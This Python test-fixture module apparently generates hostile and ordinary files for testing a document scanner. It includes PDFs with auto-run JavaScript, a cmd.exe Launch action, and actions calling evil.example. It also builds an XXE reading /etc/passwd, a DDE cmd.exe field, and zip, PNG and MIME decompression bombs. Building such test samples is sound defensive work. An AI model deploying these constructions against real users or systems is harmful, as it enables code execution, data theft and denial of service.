"""Builds PDF, pictures, office files and mail, as honest people and attackers make them."""

import io
import struct
import zipfile
import zlib
from email.message import EmailMessage

from PIL import Image

from cases.documents.content import DOCX, ODT

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
PROGRAM = b"MZ\x90\0" + b"\0" * 500
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


# -- PDF --------------------------------------------------------------------------------------


def make_pdf(*, catalog=b"", more=(), text=b"Aanvraag", pages=1) -> bytes:
    """A PDF with a line of text on each page; `more` are objects from number 10 on."""
    kids = b" ".join(b"%d 0 R" % (100 + number) for number in range(pages))
    stream = b"BT /F1 40 Tf 50 700 Td (%s) Tj ET" % text
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog,
        2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, pages),
        4: b"<</Length %d>>stream\n%s\nendstream" % (len(stream), stream),
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    }
    for number in range(pages):
        objects[100 + number] = (
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
            b"/Resources<</Font<</F1 5 0 R>>>>>>"
        )
    objects |= dict(enumerate(more, 10))
    return _assembled(objects)


def _assembled(objects: dict[int, bytes], trailer: bytes = b"") -> bytes:
    out, places = b"%PDF-1.7\n", {}
    for number, body in objects.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(out), max(objects) + 1
    out += b"xref\n0 %d\n" % size
    for number in range(size):
        if number in places:
            out += b"%010d 00000 n \n" % places[number]
        else:
            out += b"0000000000 65535 f \n"
    return out + b"trailer<</Size %d/Root 1 0 R%s>>\nstartxref\n%d\n%%%%EOF\n" % (
        size, trailer, start,
    )  # fmt: skip


def pdf_with_attachment(name: bytes, content: bytes) -> bytes:
    return make_pdf(
        catalog=b"/Names<</EmbeddedFiles<</Names[(%s) 10 0 R]>>>>" % name,
        more=[
            b"<</Type/Filespec/F(%s)/UF(%s)/EF<</F 11 0 R>>>>" % (name, name),
            b"<</Type/EmbeddedFile/Length %d>>stream\n%s\nendstream" % (len(content), content),
        ],
    )


def locked_pdf() -> bytes:
    """Asks for a password nobody here knows."""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[]/Count 0>>",
        10: b"<</Filter/Standard/V 2/R 3/Length 128/P -1028/O<%s>/U<%s>>>"
        % (b"41" * 32, b"42" * 32),
    }
    return _assembled(objects, trailer=b"/Encrypt 10 0 R/ID[<00><00>]")


def zip_in_pdf() -> bytes:
    """An archive in a stream of a PDF, whose remark is the rest of the PDF."""
    head, _middle, tail = make_pdf(more=[b"<</Length 4>>stream\n@@@@\nendstream"]).partition(
        b"@@@@"
    )
    return head + make_zip({"a.class": b"a"}, comment=tail)


JAVASCRIPT = make_pdf(catalog=b"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>")
LAUNCH = make_pdf(catalog=b"/OpenAction<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>")
CALLS_HOME = make_pdf(catalog=b"/OpenAction<</S/URI/URI(http://evil.example/?seen)>>")
SUBMITS = make_pdf(catalog=b"/OpenAction<</S/SubmitForm/F(http://evil.example/)>>")


# -- Pictures ---------------------------------------------------------------------------------


def make_picture(form="PNG", size=(40, 30), **values) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (30, 120, 60)).save(out, form, **values)
    return out.getvalue()


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def png_that_says(width: int, height: int) -> bytes:
    """Of this size by its head; the points would be zeros that pack a thousand times."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    points = chunk(b"IDAT", zlib.compress(b"\0" * 1_000_000))
    return b"\x89PNG\r\n\x1a\n" + head + points + chunk(b"IEND", b"")


def png_with_text_bomb() -> bytes:
    whole = make_picture()
    bomb = chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 80_000_000))
    return whole[:33] + bomb + whole[33:]


def jpeg_with_comment(text: bytes) -> bytes:
    whole = make_picture("JPEG")
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(text) + 2) + text + whole[2:]


def jpeg_that_says(width: int, height: int) -> bytes:
    whole = bytearray(make_picture("JPEG"))
    place = whole.index(b"\xff\xc0") + 5
    whole[place : place + 4] = struct.pack(">HH", height, width)
    return bytes(whole)


# -- Office -----------------------------------------------------------------------------------

TYPES = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Override PartName="/word/document.xml" ContentType="%s.main+xml"/></Types>'
)
WORD_TYPES = TYPES % DOCX.encode()
WORD = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">%s'
LETTER = WORD % b"<w:p><w:r><w:t>Geachte heer</w:t></w:r></w:p></w:document>"
RELATIONS = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/%s" Target="%s" TargetMode="External"/></Relationships>'
)
MACRO_KIND = b"application/vnd.ms-word.document.macroEnabled"


def make_zip(files: dict, stored=(), comment=b"") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            how = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(zipfile.ZipInfo(name), content, how)
        archive.comment = comment
    return out.getvalue()


def make_docx(more=None, *, types=WORD_TYPES, letter=LETTER, comment=b"") -> bytes:
    files = {"[Content_Types].xml": types, "word/document.xml": letter}
    return make_zip(files | (more or {}), comment=comment)


def related(relation: bytes, target: bytes) -> bytes:
    return make_docx({"word/_rels/document.xml.rels": RELATIONS % (relation, target)})


CONTENT = (
    b'<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
    b'xmlns:xlink="http://www.w3.org/1999/xlink" '
    b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
    b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">%s</office:document-content>'
)


def make_odt(more=None, *, content=b"<text:p>Geachte heer</text:p>", kind=ODT) -> bytes:
    files = {"mimetype": kind.encode(), "content.xml": CONTENT % content}
    return make_zip(files | (more or {}), stored=["mimetype"])


def bomb() -> bytes:
    """A tenth of a megabyte that becomes a hundred."""
    return make_docx({"word/media/image1.bmp": b"\0" * 100_000_000})


def lying_zip() -> bytes:
    """The list promises 100 bytes; unpacking gives a million."""
    whole = bytearray(make_docx({"word/big.xml": b"<a>" + b" " * 1_000_000 + b"</a>"}))
    real = struct.pack("<I", 1_000_007)
    while (place := whole.find(real)) != -1:
        whole[place : place + 4] = struct.pack("<I", 100)
    return bytes(whole)


def overlapping_zip() -> bytes:
    """Two names in the list that share one and the same packed content."""
    whole = bytearray(make_docx({"word/aaaaa.xml": b"<a/>", "word/bbbbb.xml": b"<a/>"}))
    listed = whole.index(b"PK\x01\x02")
    first = whole.index(b"word/aaaaa.xml", listed) - 46
    second = whole.index(b"word/bbbbb.xml", listed) - 46
    whole[second + 42 : second + 46] = whole[first + 42 : first + 46]
    return bytes(whole)


def renamed_zip(before: bytes, after: bytes) -> bytes:
    """With another name in both places; of the same length."""
    return make_docx({before.decode(): b"<a/>"}).replace(before, after)


def two_names_zip() -> bytes:
    """One name in the list, another one before the content."""
    return make_docx({"word/media/a.xml": b"<a/>"}).replace(
        b"word/media/a.xml", b"word/media/b.exe", 1
    )


def locked_zip() -> bytes:
    whole = bytearray(make_docx())
    for sign, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = whole.find(sign)
        while start != -1:
            whole[start + place] |= 1
            start = whole.find(sign, start + 4)
    return bytes(whole)


ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    + WORD % b"<w:t>&x;</w:t></w:document>"
)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
    + WORD % b"<w:t>&b;</w:t></w:document>"
)
DDE = WORD % (
    b"<w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\cmd.exe"
    b"</w:instrText></w:r></w:p></w:document>"
)
SHEET = make_zip(
    {
        "[Content_Types].xml": TYPES
        % DOCX.replace("wordprocessingml.document", "spreadsheetml.sheet").encode()
    }
)


# -- Mail -------------------------------------------------------------------------------------


def make_mail(*, html="", attachments=(), **headers) -> bytes:
    message = EmailMessage()
    given = {"From": "h.dewit@example.nl", "To": "kcc@example.nl", "Subject": "Mijn aanvraag"}
    for name, value in (given | headers).items():
        message[name] = value
    message["Date"] = "Tue, 10 Nov 2026 09:58:00 +0100"
    message.set_content("Hierbij stuur ik mijn stukken.\n")
    if html:
        message.add_alternative(html, subtype="html")
    for name, content in attachments:
        message.add_attachment(
            content, maintype="application", subtype="octet-stream", filename=name
        )
    return bytes(message)


def deep_mail() -> bytes:
    head = b"From: a@example.nl\r\nDate: Tue, 10 Nov 2026 09:58:00 +0100\r\n"
    parts = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (number, number)
        for number in range(3000)
    )
    return head + parts + b"\r\n"
